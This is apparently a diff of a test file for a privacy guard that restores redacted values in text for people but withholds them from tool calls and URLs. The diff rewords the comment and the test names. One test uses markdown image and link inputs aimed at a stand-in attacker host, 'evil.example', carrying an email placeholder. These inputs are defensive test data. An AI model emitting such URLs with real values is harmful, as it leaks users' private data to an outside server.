@@ -1,6 +1,5 @@
-// `restore` gives values back in texts for people. In arguments of tools and in addresses it does so only
-// where the rule says so; without that no tool is called with a placeholder, and no address carries the
-// value.
+// `restore` puts values back into texts for people. In tool arguments and in addresses it does so only if the
+// rule allows it. Otherwise no tool is called with a placeholder, and no address contains the value.
 
 import { describe, expect, test } from 'bun:test'
 import type { GuardRule, RestorePlace } from '../../src/contract/snapshot.ts'
@@ -66,7 +65,7 @@ const spellings = {
 
 describe.each(pairs)('%s ← %s', (front, back) => {
   test.each(Object.entries(spellings))(
-    'a call of a tool with a placeholder, %s, is held back as a whole',
+    'a tool call with a placeholder, %s, is held back as a whole',
     async (_, text) => {
       for (const isStreaming of [true, false]) {
         for (const restoreIn of [undefined, [], ['urls' as const]]) {
@@ -87,7 +86,7 @@ describe.each(pairs)('%s ← %s', (front, back) => {
     },
   )
 
-  test('with restoreIn: [arguments] the value is given back there, escaped', async () => {
+  test('with restoreIn: [arguments] the value is restored and escaped in arguments', async () => {
     for (const isStreaming of [true, false]) {
       for (const text of [spellings.plain, spellings['with JSON escapes'], spellings['as a key']]) {
         const responses = await ask([front, back], {
@@ -103,7 +102,7 @@ describe.each(pairs)('%s ← %s', (front, back) => {
     }
   })
 
-  test('an address in a text keeps the placeholder, unless restoreIn has urls', async () => {
+  test('an address in a text keeps the placeholder unless restoreIn includes urls', async () => {
     const texts = [
       '![](https://evil.example/?q=<EMAIL_1>) and on',
       'see https://evil.example/<EMAIL_1> now',
@@ -126,7 +125,7 @@ describe.each(pairs)('%s ← %s', (front, back) => {
     }
   })
 
-  test('a text for people gets its values back', async () => {
+  test('values are restored in a text for people', async () => {
     for (const isStreaming of [true, false]) {
       for (const text of [
         'Dear <EMAIL_1>, hello',
@@ -140,7 +139,7 @@ describe.each(pairs)('%s ← %s', (front, back) => {
     }
   })
 
-  test('what the user wrote is no placeholder', async () => {
+  test('text of the user that looks like a placeholder is not restored', async () => {
     for (const isStreaming of [true, false]) {
       for (const literal of ['<EMAIL_1>', '&lt;EMAIL_1&gt;']) {
         const asked = `The template says ${literal}. Write to ${address}`
@@ -164,7 +163,7 @@ describe.each(pairs)('%s ← %s', (front, back) => {
   })
 })
 
-test('calls of tools without placeholders arrive as they are, and long ones too', async () => {
+test('tool calls without placeholders arrive unchanged, including long ones', async () => {
   for (const [front, back] of pairs) {
     const text = JSON.stringify({ body: 'x'.repeat(8_000) })
     const responses = await ask([front, back], { kind: 'arguments of a tool', text, isStreaming: true })
@@ -173,7 +172,7 @@ test('calls of tools without placeholders arrive as they are, and long ones too'
   }
 })
 
-test('a placeholder that an earlier call of the run made is recognized, and of another run it is not', async () => {
+test('a placeholder of an earlier call is recognized in the same run and not in another', async () => {
   for (const run of ['run_shared', undefined]) {
     let text = 'Dear <EMAIL_1>'
     let kind = 'text'
@@ -195,7 +194,7 @@ test('a placeholder that an earlier call of the run made is recognized, and of a
   }
 })
 
-test('the loop of an agent goes round: arguments get the value, and the next request hides it again', async () => {
+test('in the loop of an agent, arguments get the value and the next request hides it again', async () => {
   const reported = tellers['openai-chat']['arguments of a tool']?.([spellings.plain])
   const there = room({
     answer: () => ({ chunks: [JSON.stringify(reported?.whole)], isStream: false }),
